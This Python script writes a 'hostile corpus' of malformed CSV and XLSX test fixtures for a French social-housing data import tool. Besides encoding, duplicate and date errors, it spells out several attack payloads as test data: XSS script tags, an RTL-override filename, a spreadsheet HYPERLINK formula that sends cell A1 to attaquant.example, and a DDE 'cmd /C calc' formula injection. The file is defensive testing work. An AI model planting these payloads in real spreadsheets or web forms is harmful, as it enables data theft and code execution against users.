"""Writes the committed files of the hostile corpus (run once: ``python tests/fichiers_hostiles/fabriquer.py``).

The bytes are spelt out here so that a reviewer sees what each file holds (encodings, control
characters, binary content) without a hex editor. What each file is expected to do is in
``tests/test_fichiers_hostiles.py`` (CORPUS). Big files (a 1 MB line, a file over the upload
limit) and workbooks are built by the tests at run time, in a temporary directory.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

ICI = Path(__file__).resolve().parent

# The MAD export of "logiciel A" (sample_data/README.md): Windows-1252, ';', CRLF.
ENTETE_MAD = ("Code bailleur;N° de référence;Date MAD;Code INSEE;Catégorie;Contingent;N° RPLS;QPV;"
              "Typologie;Financement;Année de construction;Issue;Date du bail;Candidat bailleur;"
              "Public prioritaire")
V1 = "OLS01;OLS01-2025-900001;03/02/2025;13055;Flux réservataire;ETAT-13;1234567890;Non;T3;PLUS;1975;En cours;;Non;Non"
V2 = "OLS01;OLS01-2025-900002;04/02/2025;04070;Non réservé;;;Oui;T2;PLAI;2001;Bail signé;20/02/2025;Non;Oui"
ENTETE_CONVENTIONS = ("Code bailleur;Nom bailleur;Code réservataire;Nom réservataire;Type de réservataire;"
                      "Département;Type de périmètre;Code périmètre;Année;Statut;Date de signature;"
                      "Motif de non-signature;Méthode;Taux (%);Droits annuels;Mode de gestion")
ENTETE_PARC = ("Code bailleur;Code INSEE;Année;Parc total;Logements exclus;Libérations;"
               "Taux de rotation;Mutations prévues;Relogements prévus")


def convention(reservataire="ETAT-13", nom="Préfet des Bouches-du-Rhône", type_="Etat",
               code_perimetre="", taux="20", bailleur_nom="Habitat des Trois Vallées",
               motif="") -> str:
    return (f"OLS01;{bailleur_nom};{reservataire};{nom};{type_};13;Département;{code_perimetre};"
            f"2025;Signée;15/01/2025;{motif};Assiette;{taux};;Directe")


def csv_texte(*lignes: str) -> str:
    return "\r\n".join(lignes) + "\r\n"


def ecrire(nom: str, contenu: bytes) -> None:
    (ICI / nom).write_bytes(contenu)


def cp1252(*lignes: str) -> bytes:
    return csv_texte(*lignes).encode("cp1252")


def main() -> None:
    ecrire("vide.csv", b"")
    ecrire("espaces_seuls.csv", b"  \r\n \t \r\n")
    ecrire("bom_seul.csv", b"\xef\xbb\xbf")
    ecrire("mad_entetes_seules.csv", cp1252(ENTETE_MAD))
    # A PNG image renamed .csv: signature, then an IHDR chunk full of null bytes.
    ecrire("image_renommee.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00"
                                 b"\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa" + bytes(64))
    zone = io.BytesIO()
    with zipfile.ZipFile(zone, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mad_2025.csv", csv_texte(ENTETE_MAD, V1, V2))
    ecrire("archive_zip_renommee.csv", zone.getvalue())
    ecrire("csv_renomme.xlsx", cp1252(ENTETE_MAD, V1))
    # The first 1 000 bytes of a real workbook: a ZIP header, then nothing usable.
    classeur = (ICI.parents[1] / "sample_data" / "mad_2025_logiciel_c.xlsx").read_bytes()
    ecrire("classeur_tronque.xlsx", classeur[:1000])
    ecrire("mad_separateur_barre.csv",
           cp1252(ENTETE_MAD.replace(";", "|"), V1.replace(";", "|"), V2.replace(";", "|")))
    ecrire("mad_separateur_des_donnees.csv",
           cp1252(ENTETE_MAD, V1.replace(";", ","), V2.replace(";", ",")))
    ecrire("mad_encodages_melanges.csv",
           csv_texte(ENTETE_MAD, V1).encode("utf-8") + csv_texte(V2).encode("cp1252"))
    ecrire("mad_guillemet_dans_les_entetes.csv", cp1252('"' + ENTETE_MAD, V1))
    ecrire("mad_colonne_sans_entete.csv",
           cp1252(ENTETE_MAD + ";", V1 + ";", V2 + ";note interne"))
    ecrire("mad_trop_de_colonnes.csv", cp1252(ENTETE_MAD + ";" * 1200, V1))
    ecrire("mad_date_impossible.csv", cp1252(
        ENTETE_MAD, V1,
        "OLS01;OLS01-2025-900003;31/02/2025;13055;Flux réservataire;ETAT-13;;Non;T4;PLUS;1980;En cours;;Non;Non",
        V2))
    ecrire("mad_communes_inconnues.csv", cp1252(
        ENTETE_MAD, V1,
        "OLS01;OLS01-2025-900003;05/02/2025;99999;Flux réservataire;ETAT-13;;Non;T4;PLUS;1980;En cours;;Non;Non",
        "OLS01;OLS01-2025-900004;06/02/2025;75056;Mutation interne;;;Non;T2;PLUS;1990;En cours;;Non;Non",
        V2))
    ecrire("mad_doublons_dans_le_fichier.csv", cp1252(
        ENTETE_MAD, V1, V2,
        "OLS01;OLS01-2025-900001;07/02/2025;13055;Flux réservataire;ETAT-13;;Non;T3;PLUS;1975;En cours;;Non;Non"))
    # OLS01-2025-000002 is in the sample (import n° 10, MAD of 02/01/2025): a 2026 file
    # cannot use that reference again.
    ecrire("mad_doublon_avec_la_base.csv", cp1252(
        ENTETE_MAD,
        "OLS01;OLS01-2026-900001;05/01/2026;13055;Flux réservataire;ETAT-13;;Non;T3;PLUS;1975;En cours;;Non;Non",
        "OLS01;OLS01-2025-000002;06/01/2026;13001;Flux réservataire;ETAT-13;;Non;T4;PLUS;1962;En cours;;Non;Non"))
    # An ANSI escape (a terminal would turn it into colours) and a right-to-left override
    # (U+202E: "OLS01-2025-900004\u202egnp.exe" displays as "...exe.png").
    ecrire("mad_caracteres_invisibles.csv", csv_texte(
        ENTETE_MAD, V1,
        "OLS01;OLS01-2025-900003\x1b[31m;05/02/2025;13055;Flux réservataire;ETAT-13;;Non;T4;PLUS;1980;En cours;;Non;Non",
        "OLS01;OLS01-2025-900004\u202egnp.exe;06/02/2025;13055;Flux réservataire;ETAT-13;;Non;T4;PLUS;1980;En cours;;Non;Non",
        V2).encode("utf-8"))
    ecrire("mad_guillemet_non_ferme.csv", cp1252(
        ENTETE_MAD, V1,
        'OLS01;"OLS01-2025-900003;05/02/2025;13055;Flux réservataire;ETAT-13;;Non;T4;PLUS;1980;En cours;;Non;Non',
        V2))
    ecrire("mad_entetes_piegees.csv", csv_texte(
        ENTETE_MAD.replace("Code bailleur", "<script>alert('entete')</script>")
                  .replace("Catégorie", "[Catégorie](https://attaquant.example/)"),
        V1).encode("utf-8"))
    ecrire("parc_nombres_negatifs_et_absurdes.csv", csv_texte(
        ENTETE_PARC,
        "OLS01;13055;2025;-12;0;1;;0;",
        "OLS01;04070;2025;120;0;99999999999;;0;",
        "OLS01;06088;20255;50;0;5;;0;",
        "OLS01;83137;2025;80;0;4;;NaN;",
        "OLS01;84007;2025;1e400;0;4;;0;",
        "OLS01;83061;2025;40;2;3;;0;").encode("utf-8-sig"))
    ecrire("conventions_taux_superieurs_a_100.csv", cp1252(
        ENTETE_CONVENTIONS,
        convention(),
        convention("ALS", "Action Logement Services", "Action Logement", taux="150"),
        convention("CD13", "Conseil départemental des Bouches-du-Rhône", "Département",
                   taux="100,5 %")))
    ecrire("conventions_doublons_dans_le_fichier.csv", cp1252(
        ENTETE_CONVENTIONS, convention(), convention(code_perimetre="13", taux="25")))
    ecrire("conventions_html_script.csv", csv_texte(
        ENTETE_CONVENTIONS,
        convention(bailleur_nom='<script>alert("flux")</script>',
                   nom="<img src=x onerror=alert(1)>",
                   motif="[Cliquez ici](https://attaquant.example/) **urgent**")).encode("utf-8"))
    ecrire("conventions_injection_formule.csv", csv_texte(
        ENTETE_CONVENTIONS,
        convention(bailleur_nom="@SOMME(1+1)",
                   motif='"=LIEN_HYPERTEXTE(""https://attaquant.example/?d=""&A1;""Voir"")"'),
        convention("ALS", "+33 4 91 00 00 00", "Action Logement",
                   motif="-2+3+cmd|' /C calc'!A0")).encode("utf-8"))


if __name__ == "__main__":
    main()
